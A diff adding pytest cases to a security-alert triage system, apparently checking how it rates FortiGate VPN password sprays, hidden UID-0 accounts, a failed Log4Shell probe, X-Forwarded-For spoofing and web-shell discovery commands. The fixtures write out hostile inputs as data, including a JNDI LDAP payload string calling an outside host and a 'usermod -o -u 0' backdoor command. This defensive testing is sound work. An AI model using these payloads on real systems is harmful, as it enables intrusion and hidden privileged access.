@@ -1562,6 +1562,9 @@ def test_a_pan_os_threat_log_says_what_the_firewall_recognised_and_whether_it_st
     ("Password authentication is a known gap scheduled for removal (RISK-221).", "explains"),  # approves nothing,
     # denies nothing: a note with no approval, denial or rule explains by default, as it always has
     ("The server has no business reason to reach the internet other than Windows Update via WSUS.", "denies"),
+    ("From 1 December to 8 January no changes to privileged AD groups (Domain Admins, Enterprise Admins, "
+     "Core-Banking-Admins) are approved.", "denies"),  # a long subject between "no" and "approved"
+    ("Any exception needs an emergency CAB number from the CIO; none has been issued this month.", "denies"),
 ])
 def test_a_note_that_states_a_rule_approves_no_event(customer, body, reads):
     """`context_restricts`: who may act, from where, on what condition — a rule, not an approval: it
@@ -2553,3 +2556,87 @@ def test_a_note_keyed_to_the_account_a_change_is_for_is_about_that_change(custom
                      source={"ip": "192.0.2.77"})
     threat, = factories.ingest_records("ecs", [alert], customer)
     assert (threat.severity == "LOW") is explained
+
+
+def test_a_fortigate_spray_names_its_accounts_in_key_value_logs():
+    """FortiOS writes `user="…"` key=value lines (SSL-VPN `ssl-login-fail`); failures on five or more
+    of them in a composite rule's previous_output are a spray (T1110.003), as for sshd and Windows."""
+    lines = "\n".join(f'date=2026-12-07 time=03:40:0{i} devname="FGT-HQ" logid="0101039426" type="event" '
+                      f'subtype="vpn" logdesc="SSL VPN login fail" action="ssl-login-fail" remip=185.225.69.77 '
+                      f'user="{user}" reason="sslvpn_login_permission_denied"'
+                      for i, user in enumerate(["j.whitaker", "teller01", "admin", "t.moreno", "scanner", "ops"]))
+    alert = _wazuh_alert("1.fgt", "81615", 7, "Fortigate: Multiple firewall SSL VPN failed login events from same source.",
+                         ["fortigate", "syslog", "authentication_failures"], agent="fgt-hq",
+                         data={"srcip": "185.225.69.77"}, previous_output=lines)
+    threat, = _ingest("wazuh", alert)
+    assert "password_spraying" in [b["name"] for b in threat.signal["behaviours"]]
+    assert "T1110.003" in _techniques(threat)
+
+
+@pytest.mark.parametrize("log,command,band", [
+    ("useradd[2211]: new user: name=systemd-netsync, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", "", "HIGH"),
+    ("useradd[2211]: new user: name=backup, UID=1004, GID=1004, home=/home/backup, shell=/bin/bash, from=/dev/pts/0",
+     "", "MEDIUM"),
+    ("usermod[2301]: change user 'sysbackup' UID from '1004' to '0'", "usermod -o -u 0 sysbackup", "HIGH"),
+])
+def test_a_second_account_with_user_id_zero_is_a_hidden_superuser(log, command, band):
+    """`second_root`: a new account (or one changed) to user id 0 beside root is root under another name:
+    shadow-utils' own line says so for a new one, the command (-o -u 0) for a change."""
+    name = log.split("name=")[1].split(",")[0] if "name=" in log else "sysbackup"
+    alert = _wazuh_alert(f"1.uid.{len(log)}", "5902", 8, "New user added to the system.", ["syslog", "adduser"],
+                         agent="lab-seq-03", full_log=f"Dec  7 02:47:10 lab-seq-03 {log}", data={"dstuser": name})
+    if command:
+        alert["data"]["command"] = command
+    threat, = _ingest("wazuh", alert)
+    assert threat.severity == band
+
+
+def test_a_probe_the_alert_shows_failed_needs_no_second_look_for_the_source_s_rating(customer):
+    """`failed_on_record`: the IDS rates the Log4Shell string HIGH, the alert shows the answer was a 404:
+    held at LOW on the alert's own outcome, nothing is left for a human to confirm."""
+    record = _eve("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain",
+                  "45.83.64.1", "10.10.5.20", severity=1)
+    record.update(app_proto="http", http={"hostname": "api.example", "url": "/${jndi:ldap://45.83.64.1:1389/a}",
+                                          "http_method": "GET", "status": 404, "length": 19})
+    threat, = factories.ingest_records("suricata", [record], customer)
+    assert threat.severity == "LOW"
+    assert not any(r.startswith("severity_disagreement") for r in threat.review_reasons)
+
+
+def test_a_forwarding_header_suricata_logs_beside_the_alert_is_read(customer):
+    """Suricata's xff `extra-data` mode puts X-Forwarded-For in a top-level `xff` field: an internet
+    client claiming an internal address there is a manipulation attempt, as under http.xff."""
+    record = _eve("ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", "192.0.2.201", "10.70.1.15",
+                  severity=1)
+    record["xff"] = "10.70.0.1"
+    threat, = factories.ingest_records("suricata", [record], customer)
+    assert threat.signal["forwarded_for"] == ["10.70.0.1"]
+    assert any(r.startswith("manipulation_attempt") for r in threat.review_reasons)
+
+
+def test_one_request_out_that_a_rule_calls_an_information_leak_is_not_scanning_the_internet(customer):
+    """A pipeline's Python-urllib download matches an "Attempted Information Leak" user-agent rule:
+    one of ours making a request is not one of ours scanning the internet (that floor is for scans)."""
+    record = _eve("ET USER_AGENTS Python-urllib/ Suspicious User Agent", "Attempted Information Leak",
+                  "10.80.12.40", "130.14.250.7", severity=2)
+    record.update(app_proto="http", http={"hostname": "ftp.ncbi.nlm.nih.gov", "url": "/genomes/GRCh38.gtf.gz",
+                                          "http_user_agent": "Python-urllib/3.11", "http_method": "GET", "status": 200})
+    threat, = factories.ingest_records("suricata", [record], customer)
+    assert threat.severity != "HIGH"
+
+
+@pytest.mark.parametrize("user,parent,band", [("www-data", "/usr/sbin/php-fpm8.1", "MEDIUM"),
+                                              ("j.smith", "/bin/bash", "LOW")])
+def test_discovery_commands_from_the_web_tier_are_a_web_shell_s_first_look(customer, user, parent, band):
+    """`web_server_discovery`: whoami run by the web server's account (or its PHP pool) is what a web
+    shell's operator types first; the same command in an administrator's shell is nothing."""
+    alert = _elastic(f"whoami-{user}", "Linux System Owner/User Discovery", "T1033", "low",
+                     **{"@timestamp": timezone.now().strftime("%Y-%m-%dT%H:%M:%SZ"),
+                        "kibana.alert.building_block_type": "default",
+                        "event": {"kind": "signal", "category": ["process"], "type": ["start"]},
+                        "host": {"name": "lims-web01"}, "user": {"name": user},
+                        "process": {"executable": "/usr/bin/whoami", "command_line": "whoami",
+                                    "parent": {"executable": parent}}})
+    alert["kibana.alert.rule.threat"][0]["tactic"] = {"id": "TA0007", "name": "Discovery"}
+    threat, = factories.ingest_records("ecs", [alert], customer)
+    assert threat.severity == band
